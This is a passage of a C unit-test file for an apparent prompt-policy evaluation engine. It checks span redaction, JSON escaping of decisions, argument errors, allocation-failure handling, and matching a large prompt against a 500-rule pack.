    gov_policy_constitution_free(c);
    gov_matcher_scratch_free(s);
}

/* The spans redaction needs come from the evaluation's one scan, kept up to
 * a bound; a prompt with more merged spans than that (here 6000 separate
 * matches of "ab") is masked from a second scan instead.  Both ways give
 * the same excerpt: note.end's window, every "ab" in it masked, its own
 * match ("END", redact false) shown. */
static void test_redaction_many_spans(void **state) {
    (void)state;
    gov_rulepack_t *p = pack_from_text("{\"pack_id\":\"r\",\"tenant\":\"demo\",\"version\":\"1\","
                                       "\"rules\":[" RULE_LIT("note.ab", "ab", ",\"redact\":false")
                                       "," RULE_LIT("note.end", "END", ",\"redact\":false") "]}");
    gov_policy_constitution_t *c = constitution_from_text("{}");
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
    size_t counts[] = {10, 1000, 6000};
    for (size_t k = 0; k < 3; k++) {
        size_t n = counts[k], len = 3 * n + 3;
        char *prompt = malloc(len + 1);
        assert_non_null(prompt);
        for (size_t i = 0; i < n; i++)
            memcpy(prompt + 3 * i, "ab ", 3);
        memcpy(prompt + 3 * n, "END", 3);
        prompt[len] = '\0';
        gov_policy_request_t req;
        gov_policy_decision_t d;
        request_with_prompt(prompt, &req);
        evaluate(c, p, &req, s, &d);
        const gov_policy_reason_t *e = reason_of(&d, "note.end");
        assert_int_equal(e->excerpt_end, len);
        char want[GOV_EXCERPT_MAX + 1];
        memcpy(want, prompt + e->excerpt_start, e->excerpt_len);
        want[e->excerpt_len] = '\0';
        for (size_t i = 0; i + 1 < e->excerpt_len; i++)
            if (want[i] == 'a' && want[i + 1] == 'b')
                want[i] = want[i + 1] = '*';
        if (e->excerpt_start % 3 == 1) /* the window cut an "ab": its b is masked too */
            want[0] = '*';
        assert_string_equal(e->excerpt, want);
        /* note.ab's own excerpt: its matches shown (redact false), END masked
         * when its window reaches it */
        const gov_policy_reason_t *a = reason_of(&d, "note.ab");
        assert_int_equal(a->excerpt_start, 0);
        assert_memory_equal(a->excerpt, prompt, a->excerpt_len < 3 * n ? a->excerpt_len : 3 * n);
        gov_policy_decision_clear(&d);
        gov_policy_request_clear(&req);
        free(prompt);
    }
    gov_matcher_scratch_free(s);
    gov_policy_constitution_free(c);
    gov_rulepack_free(p);
}

/* ---- the response body ---------------------------------------------------------------------- */

static void test_response_escaping_and_extra_members(void **state) {
    (void)state;
    gov_rulepack_t *p = pack_from_text(
        "{\"pack_id\":\"j\",\"tenant\":\"demo\",\"version\":\"1\",\"rules\":["
        "{\"id\":\"q\",\"severity\":\"critical\",\"weight\":0.25,\"effect\":\"add\",\"message\":"
        "\"say \\\"hi\\\"\\n\\ttab \\\\ \\u0001 \\u007f \xe2\x80\xa8\",\"match\":{\"prompt\":"
        "[{\"literal\":\"X\"}]}}]}");
    gov_policy_constitution_t *c = constitution_from_text("{}");
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
    const char *rq = "{" REQ_HEAD ",\"prompt\":\"a\\u0000\\\"X\\\"\\r\\n\\u001f\"}";
    gov_policy_request_t req;
    request_from_text(rq, strlen(rq), &req);
    assert_int_equal(req.prompt_len, 8);
    gov_policy_decision_t d;
    evaluate(c, p, &req, s, &d);
    char *out = NULL;
    size_t len = 0;
    assert_int_equal(gov_policy_decision_to_json(&d, "\"decision_id\":\"abc\",\"evaluated_at\":1",
                                                 &out, &len),
                     GOV_OK);
    const char *want =
        "{\"decision_id\":\"abc\",\"evaluated_at\":1,\"decision\":\"allow\",\"score\":0.250000,"
        "\"reasons\":[{\"rule_id\":\"q\",\"severity\":\"critical\",\"weight\":0.250000,"
        "\"message\":\"say \\\"hi\\\"\\n\\ttab \\\\ \\u0001 \x7f \xe2\x80\xa8\",\"excerpt\":"
        "\"a\\u0000\\\"X\\\"\\r\\n\\u001f\",\"excerpt_start\":0,\"excerpt_end\":8}],"
        "\"input_digest\":\"";
    assert_int_equal(strncmp(out, want, strlen(want)), 0);
    json_error_t je;
    json_t *j = json_loadb(out, len, JSON_ALLOW_NUL, &je);
    if (j == NULL)
        fail_msg("response is not JSON: %s: %s", je.text, out);
    json_t *r0 = json_array_get(json_object_get(j, "reasons"), 0);
    assert_int_equal(json_string_length(json_object_get(r0, "excerpt")), 8);
    assert_memory_equal(json_string_value(json_object_get(r0, "excerpt")), "a\0\"X\"\r\n\x1f", 8);
    assert_string_equal(json_string_value(json_object_get(r0, "message")),
                        "say \"hi\"\n\ttab \\ \x01 \x7f \xe2\x80\xa8");
    assert_string_equal(json_string_value(json_object_get(j, "input_digest")), req.input_digest);
    json_decref(j);
    gov_free(out);
    assert_int_equal(gov_policy_decision_to_json(NULL, NULL, &out, NULL), GOV_ERR_INVALID_ARG);
    gov_policy_decision_clear(&d);
    gov_policy_decision_clear(NULL);
    gov_policy_request_clear(&req);
    gov_matcher_scratch_free(s);
    gov_policy_constitution_free(c);
    gov_rulepack_free(p);
}

static void test_evaluate_argument_errors(void **state) {
    (void)state;
    json_t *v = vectors();
    gov_rulepack_t *p = pack_from_json(json_object_get(json_object_get(v, "packs"), "base"));
    gov_policy_constitution_t *c = constitution_from_text("{}");
    gov_policy_request_t req;
    const char *other = "{\"tenant\":\"acme\",\"session_id\":\"s\",\"user\":\"u\",\"role\":\"r\","
                        "\"prompt\":\"p\"}";
    request_from_text(other, strlen(other), &req);
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
    gov_policy_decision_t d;
    char err[256];
    gov_reason_t why = GOV_REASON_NONE;
    assert_int_equal(gov_policy_evaluate(c, p, &req, s, &d, &why, err, sizeof err),
                     GOV_ERR_INVALID_ARG);
    /* The code is a value; errbuf carries the detail alone. */
    assert_int_equal(why, GOV_REASON_TENANT_MISMATCH);
    assert_string_equal(gov_reason_code(why), "tenant_mismatch");
    assert_string_equal(err, "the request is for another tenant than the rule pack");
    assert_int_equal(d.nreasons, 0);
    assert_null(d.reasons);
    gov_policy_request_clear(&req);
    request_from_text("{" REQ_HEAD ",\"prompt\":\"p\"}", strlen("{" REQ_HEAD ",\"prompt\":\"p\"}"),
                      &req);
    why = GOV_REASON_NONE;
    assert_int_equal(gov_policy_evaluate(c, p, &req, NULL, &d, &why, err, sizeof err),
                     GOV_ERR_INVALID_ARG);
    assert_int_equal(why, GOV_REASON_INVALID_ARG);
    assert_string_equal(err, "the pack has patterns and no scratch given");
    why = GOV_REASON_NONE;
    assert_int_equal(gov_policy_evaluate(NULL, p, &req, s, &d, &why, err, sizeof err),
                     GOV_ERR_INVALID_ARG);
    assert_int_equal(why, GOV_REASON_INVALID_ARG);
    assert_int_equal(gov_policy_evaluate(c, NULL, &req, s, &d, NULL, err, sizeof err),
                     GOV_ERR_INVALID_ARG);
    why = GOV_REASON_NONE;
    assert_int_equal(gov_policy_evaluate(c, p, &req, s, NULL, &why, err, sizeof err),
                     GOV_ERR_INVALID_ARG);
    assert_int_equal(why, GOV_REASON_INVALID_ARG);
    assert_string_equal(gov_decision_name(GOV_DECISION_REVIEW), "review");
    gov_policy_request_clear(&req);
    gov_matcher_scratch_free(s);
    gov_policy_constitution_free(c);
    gov_rulepack_free(p);
}

/* ---- allocation failures ---------------------------------------------------------------------- */

static void test_allocation_failures(void **state) {
    (void)state;
    json_t *v = vectors();
    json_t *cs = case_named("constitution_both_and_rule");
    char *rtext = json_dumps(json_object_get(cs, "request"), JSON_COMPACT);
    const char *want = json_string_value(json_object_get(json_object_get(cs, "expect"), "json"));
    json_t *cdoc = json_object_get(json_object_get(v, "constitutions"), "demo");
    gov_rulepack_t *p = pack_from_json(json_object_get(json_object_get(v, "packs"), "base"));
    long n, total = 0;

    /* Request parsing. */
    for (n = 0;; n++) {
        gov_policy_request_t req;
        char err[256] = "";
        gov_alloc_fail_after(n);
        gov_err_t rc = gov_policy_request_parse(rtext, strlen(rtext), NULL, &req, NULL, err, sizeof err);
        gov_alloc_fail_reset();
        if (rc == GOV_OK) {
            assert_string_equal(req.input_digest,
                                json_string_value(json_object_get(
                                    json_object_get(cs, "expect"), "input_digest")));
            gov_policy_request_clear(&req);
            break;
        }
        if (rc != GOV_ERR_NOMEM)
            fail_msg("request allocation %ld: %s: %s", n, gov_err_code(rc), err);
        assert_null(req.mem);
    }
    total += n;

    /* Constitution rules. */
    for (n = 0;; n++) {
        gov_policy_constitution_t *c = (gov_policy_constitution_t *)0x1;
        gov_alloc_fail_after(n);
        gov_err_t rc = gov_policy_constitution_from_json(cdoc, &c, NULL, 0);
        gov_alloc_fail_reset();
        if (rc == GOV_OK) {
            gov_policy_constitution_free(c);
            break;
        }
        assert_int_equal(rc, GOV_ERR_NOMEM);
        assert_null(c);
    }
    total += n;

    /* Evaluation, with a fresh scratch each time (so its allocation can
     * fail too), and the response body. */
    gov_policy_constitution_t *c = constitution_from_json(cdoc);
    gov_policy_request_t req;
    request_from_text(rtext, strlen(rtext), &req);
    for (n = 0;; n++) {
        gov_matcher_scratch_t *s = NULL;
        gov_policy_decision_t d;
        char *out = NULL;
        char err[256] = "";
        gov_reason_t why = GOV_REASON_NONE;
        gov_alloc_fail_after(n);
        gov_err_t rc = gov_matcher_scratch_new(NULL, &s);
        if (rc == GOV_OK) {
            rc = gov_policy_evaluate(c, p, &req, s, &d, &why, err, sizeof err);
            /* Out of memory in the evaluation itself is reported as such. */
            if (rc == GOV_ERR_NOMEM)
                assert_int_equal(why, GOV_REASON_NOMEM);
        }
        if (rc == GOV_OK) {
            rc = gov_policy_decision_to_json(&d, NULL, &out, NULL);
            gov_policy_decision_clear(&d);
        }
        gov_alloc_fail_reset();
        gov_matcher_scratch_free(s);
        if (rc == GOV_OK) {
            assert_string_equal(out, want);
            gov_free(out);
            break;
        }
        if (rc != GOV_ERR_NOMEM)
            fail_msg("evaluate allocation %ld: %s: %s", n, gov_err_code(rc), err);
        assert_null(out);
    }
    total += n;
    assert_true(total > 20);
    gov_policy_request_clear(&req);
    gov_policy_constitution_free(c);
    gov_rulepack_free(p);
    free(rtext);
}

/* ---- a 1 MiB prompt against a 500-rule pack (correctness, not speed) --------------------------- */

static int cmp_id(const void *a, const void *b) {
    return strcmp(a, b);
}

static void test_big_prompt_big_pack(void **state) {
    (void)state;
    /* 500 rules: even ids a literal "kwNNN-lit", odd ids a regex
     * "rxNNN-[0-9]{3}-end"; every third case-insensitive.  The filler has
     * no digits, so only the planted tokens can match. */
    size_t cap = 500 * 220 + 256, o;
    char *pack = malloc(cap);
    assert_non_null(pack);
    o = (size_t)snprintf(pack, cap, "{\"pack_id\":\"big\",\"tenant\":\"demo\",\"version\":\"1\","
                                    "\"rules\":[");
    for (int i = 0; i < 500; i++) {
        char pat[64];
        if (i % 2 == 0)
            snprintf(pat, sizeof pat, "\"literal\":\"kw%03d-lit\"", i);
        else
            snprintf(pat, sizeof pat, "\"regex\":\"rx%03d-[0-9]{3}-end\"", i);
        o += (size_t)snprintf(pack + o, cap - o,
                              "%s{\"id\":\"big.%03d\",\"severity\":\"low\",\"weight\":0.001,"
                              "\"effect\":\"add\",\"message\":\"m\",\"match\":{\"prompt\":"
                              "[{%s%s}]}}",
                              i ? "," : "", (499 * 7 + i * 13) % 500, pat,
                              i % 3 == 0 ? ",\"case_insensitive\":true" : "");
    }
    snprintf(pack + o, cap - o, "]}");
    gov_rulepack_t *p = pack_from_text(pack);
    free(pack);
    assert_int_equal(gov_rulepack_rule_count(p), 500);

    size_t plen = 1024 * 1024;
    char *prompt = malloc(plen + 1);
    assert_non_null(prompt);
    rng_state = 4242;
    for (size_t i = 0; i < plen; i++)
        prompt[i] = "abcdefghij klmnopqrstuvwxyz -"[rnd(29)];
    /* Planted, by declaration index: 0 (literal, caseless, written in
     * capitals), 7 (regex), 250 (literal), 499 (regex, at the very end). */
    memcpy(prompt + 10, "KW000-LIT", 9);
    memcpy(prompt + 300000, "rx007-123-end", 13);
    memcpy(prompt + 700000, "kw250-lit", 9);
    memcpy(prompt + plen - 13, "rx499-999-end", 13);
    prompt[plen] = '\0';
    json_t *rq = json_pack("{s:s,s:s,s:s,s:s,s:s%}", "tenant", "demo", "session_id", "s", "user",
                           "u", "role", "r", "prompt", prompt, plen);
    gov_policy_request_t req;
    request_from_json(rq, &req);
    json_decref(rq);
    assert_int_equal(req.prompt_len, plen);
    gov_policy_constitution_t *c = constitution_from_text("{}");
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
    gov_policy_decision_t d;
    evaluate(c, p, &req, s, &d);
    /* The ids of declaration indexes 0, 7, 250, 499, sorted. */
    int decl[] = {0, 7, 250, 499};
    char want[4][16];
    for (int k = 0; k < 4; k++)
        snprintf(want[k], sizeof want[k], "big.%03d", (499 * 7 + decl[k] * 13) % 500);
    qsort(want, 4, sizeof want[0], cmp_id);
    assert_int_equal(d.nreasons, 4);
    for (int k = 0; k < 4; k++) {
        assert_string_equal(d.reasons[k].rule_id, want[k]);
        assert_true(d.reasons[k].excerpt_len > 0 && d.reasons[k].excerpt_len <= 64);
    }
    assert_int_equal(d.score_micros, 4000);
    assert_int_equal(d.decision, GOV_DECISION_ALLOW);
    gov_policy_decision_clear(&d);
    gov_policy_request_clear(&req);
    gov_matcher_scratch_free(s);
    gov_policy_constitution_free(c);
    gov_rulepack_free(p);
    free(prompt);
}

static int teardown_vectors(void **state) {
    (void)state;
    json_decref(vectors());
    return 0;
}

int main(void) {
    gov_alloc_install_jansson();
    if (gov_matcher_install_allocator() != GOV_OK)
        return 1;
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_vectors),
        cmocka_unit_test(test_docs_worked_example),
        cmocka_unit_test(test_request_errors),
        cmocka_unit_test(test_input_digest),
        cmocka_unit_test(test_constitution_rules),
        cmocka_unit_test(test_thresholds_never_loosen),
        cmocka_unit_test(test_same_answer_every_run),
        cmocka_unit_test(test_adding_a_matched_rule_never_lowers_the_score),
        cmocka_unit_test(test_clamping),
        cmocka_unit_test(test_shuffled_rules_same_bytes),
        cmocka_unit_test(test_caseless_literal_vs_regex_rules),
        cmocka_unit_test(test_excerpt_window_utf8),
        cmocka_unit_test(test_excerpt_emoji_prompt),
        cmocka_unit_test(test_redact_member),
        cmocka_unit_test(test_redaction_edges),
        cmocka_unit_test(test_redaction_vs_reference),
        cmocka_unit_test(test_redaction_hides_what_follows_a_secret),
        cmocka_unit_test(test_redaction_many_spans),
        cmocka_unit_test(test_response_escaping_and_extra_members),
        cmocka_unit_test(test_evaluate_argument_errors),
        cmocka_unit_test(test_allocation_failures),
        cmocka_unit_test(test_big_prompt_big_pack),
    };
    return cmocka_run_group_tests(tests, NULL, teardown_vectors);
}
